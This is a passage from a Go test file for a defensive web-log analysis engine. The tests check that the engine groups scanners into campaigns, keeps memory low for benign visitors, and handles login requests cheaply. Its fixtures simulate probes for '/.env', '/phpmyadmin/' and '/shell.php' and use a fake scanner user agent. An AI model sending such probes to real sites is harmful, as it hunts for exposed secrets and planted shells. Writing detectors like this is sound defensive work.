}

func TestCampaigns(t *testing.T) {
	var reqs []req
	// three actors each probing /blog/wp-admin/ once: weak alone
	for i := range 3 {
		reqs = append(reqs, req{ip: fmt.Sprintf("192.0.2.%d", i+1), target: "/blog/wp-admin/", status: 404})
	}
	// three actors sharing an unusual UA with different probes
	for i, p := range []string{"/.env", "/phpmyadmin/", "/shell.php"} {
		reqs = append(reqs, req{ip: fmt.Sprintf("198.51.100.%d", i+1), target: p, status: 404, ua: "Mozlila/5.0 zz-scan"})
	}
	// two actors sharing a probe set are not a campaign
	for i := range 2 {
		reqs = append(reqs, req{ip: fmt.Sprintf("192.0.2.%d", 100+i), target: "/xmlrpc.php", status: 404})
	}
	c := run(t, Config{}, reqs)
	all := append(slices.Clone(c.Suspicious), c.Weak...)
	cs := Campaigns(all, nil)
	if len(cs) != 2 {
		t.Fatalf("campaigns = %+v", cs)
	}
	kinds := map[string]evidence.Campaign{}
	for _, x := range cs {
		kinds[x.Kind] = x
	}
	if p := kinds["shared-probe-set"]; len(p.Actors) != 3 || !slices.Contains(p.Categories, evidence.WordPressScan) || !strings.Contains(p.Key, "/blog/wp-admin/") {
		t.Errorf("probe-set campaign: %+v", p)
	}
	if u := kinds["shared-user-agent"]; len(u.Actors) != 3 || u.Key != "Mozlila/5.0 zz-scan" || len(u.Categories) < 3 {
		t.Errorf("UA campaign: %+v", u)
	}
	promoted, _ := PromoteCampaigns(all, nil, cs)
	for _, a := range promoted {
		inCampaign := strings.HasPrefix(a.Actor, "192.0.2.") && !strings.HasPrefix(a.Actor, "192.0.2.10")
		if inCampaign && (!a.Suspicious() || !strings.Contains(a.Hits[0].Reason, "part of campaign")) {
			t.Errorf("%s not promoted: %+v", a.Actor, a.Hits)
		}
		if strings.HasPrefix(a.Actor, "192.0.2.10") && a.Suspicious() {
			t.Errorf("%s promoted without a campaign", a.Actor)
		}
	}
	// browser UAs are never a campaign key
	if unusualUA(browser) || unusualUA("curl/7.68.0") || !unusualUA("Mozlila/5.0 zz-scan") {
		t.Error("unusualUA")
	}
}

// A benign actor must stay small: counters only, no rich state.
func TestBenignActorMemory(t *testing.T) {
	if testing.Short() {
		t.Skip("memory measurement")
	}
	e, _ := NewEngine(Config{})
	const n = 100000
	r := &record.Record{Method: "GET", Status: 200, Bytes: 1000, UA: browser}
	paths := []string{"/", "/about", "/blog/post-1", "/static/app.js", "/static/site.css"}
	measure := func() uint64 {
		var m runtimeMem
		return m.heap()
	}
	before := measure()
	for i := range n {
		r.Client = netip.AddrFrom4([4]byte{10, byte(i >> 16), byte(i >> 8), byte(i)})
		for j, p := range paths {
			r.Time = t0.Add(time.Duration(i*10+j) * time.Second)
			r.Path = p
			e.Observe(r)
		}
	}
	after := measure()
	per := float64(after-before) / n
	t.Logf("benign actor: %.0f bytes (%d actors, %d paths each)", per, e.Actors(), len(paths))
	if per > 300 {
		t.Errorf("benign actor costs %.0f bytes, want <= 300", per)
	}
	if c := e.Result(0); len(c.Suspicious)+len(c.Weak) != 0 {
		t.Errorf("benign actors reported: %d", len(c.Suspicious)+len(c.Weak))
	}

	// Regular visitors reading many pages cost the crawl-rate ring too.
	e, _ = NewEngine(Config{})
	const m = 20000
	before = measure()
	for i := range m {
		r.Client = netip.AddrFrom4([4]byte{11, byte(i >> 16), byte(i >> 8), byte(i)})
		for j := range 40 {
			r.Time = t0.Add(time.Duration(i+j*30) * time.Second)
			r.Path = paths[j%3]
			e.Observe(r)
		}
	}
	after = measure()
	per = float64(after-before) / m
	t.Logf("regular visitor: %.0f bytes (%d actors, 40 page views each)", per, e.Actors())
	if per > 600 {
		t.Errorf("regular visitor costs %.0f bytes, want <= 600", per)
	}
}

// The benign path must not allocate: the same visitors' ordinary requests,
// mixed-case and encoded included.
func TestBenignNoAlloc(t *testing.T) {
	e, _ := NewEngine(Config{})
	var recs []*record.Record
	for i, tg := range []string{"/", "/Blog/Some-Post", "/search?q=caf%C3%A9+%26+bar", "/static/App.9f2c.js", "/img/Logo.PNG"} {
		for j := range 4 {
			r := req{ip: fmt.Sprintf("198.51.100.%d", j+1), target: tg, status: 200, bytes: 900, ua: browser}.record(int64(i + 1))
			recs = append(recs, r)
			e.Observe(r) // create the actors first
		}
	}
	n := 0
	allocs := testing.AllocsPerRun(200, func() {
		e.Observe(recs[n%len(recs)])
		n++
	})
	if allocs != 0 {
		t.Errorf("benign Observe allocates %.1f times per record", allocs)
	}
}

// Ordinary requests to login endpoints (a sign-in that works, the session
// check a single-page app makes on every view) must stay on the cheap path:
// only failed logins are evidence.
func TestLoginSuccessStaysCheap(t *testing.T) {
	e, _ := NewEngine(Config{})
	for i, tg := range []string{"/api/session", "/login", "/api/login", "/signin"} {
		method := "GET"
		if i%2 == 1 {
			method = "POST"
		}
		r := req{ip: fmt.Sprintf("198.51.100.%d", i+1), method: method, target: tg, status: 200, bytes: 300, ua: browser}.record(int64(i + 1))
		e.Observe(r)
	}
	for p, st := range e.actors {
		if st.rich != nil {
			t.Errorf("%s: a successful login request allocated rich state", p)
		}
	}
	// A failed one is evidence.
	e.Observe(req{ip: "198.51.100.9", method: "POST", target: "/api/login", status: 401, ua: browser}.record(9))
	rich := 0
	for _, st := range e.actors {
		if st.rich != nil {
			rich++
		}
	}
	if rich != 1 {
		t.Errorf("%d actors with rich state after one failed login, want 1", rich)
	}
}

// Distinct long user agents must not pile up in the UA cache.
func TestLongUAsNotRetained(t *testing.T) {
	if testing.Short() {
		t.Skip("memory measurement")
	}
	e, _ := NewEngine(Config{})
	const n, size = 2000, 32 << 10
	ua := []byte(strings.Repeat("a", size))
	r := &record.Record{Method: "GET", Path: "/", Status: 200, Client: netip.MustParseAddr(attacker), Time: t0}
	var m runtimeMem
	before := m.heap()
	for i := range n {
		copy(ua, fmt.Sprintf("%08d", i))
		r.UA = string(ua)
		e.Observe(r)
	}
	r.UA = ""
	e.Observe(r) // drops the engine's reference to the last UA
	grown := int64(m.heap()) - int64(before)
	runtime.KeepAlive(e)
	t.Logf("%d distinct %d-byte UAs: heap grew %d bytes", n, size, grown)
	if grown > 4<<20 {
		t.Errorf("heap grew %d MB over %d distinct long UAs", grown>>20, n)
	}
}

// The same log gives the same evidence on every run: DistinctPaths is an
// estimate past a few paths, and it must not depend on a random seed.
func TestDistinctPathsDeterministic(t *testing.T) {
	for _, n := range []int{5, 50, 500, 5000} {
		reqs := seq(n, "/.env%d", 404, time.Second)
		var got []int
		for range 4 {
			a, _ := find(run(t, Config{}, reqs), attacker)
			if a == nil {
				t.Fatalf("%d paths: actor not reported", n)
			}
			got = append(got, a.DistinctPaths)
		}
		if slices.Min(got) != slices.Max(got) {
			t.Errorf("%d distinct paths estimated differently across runs: %v", n, got)
		}
		if n <= 500 && (got[0] < n*95/100 || got[0] > n*105/100) {
			t.Errorf("%d distinct paths estimated as %d", n, got[0])
		}
	}
}

// promoteAll is the actors after campaigns among them are found and promoted.
func promoteAll(all []evidence.Actor) []evidence.Actor { return promoteWith(all, Campaigns(all, nil)) }

func promoteWith(all []evidence.Actor, cs []evidence.Campaign) []evidence.Actor {
	out, _ := PromoteCampaigns(all, nil, cs)
	return out
}
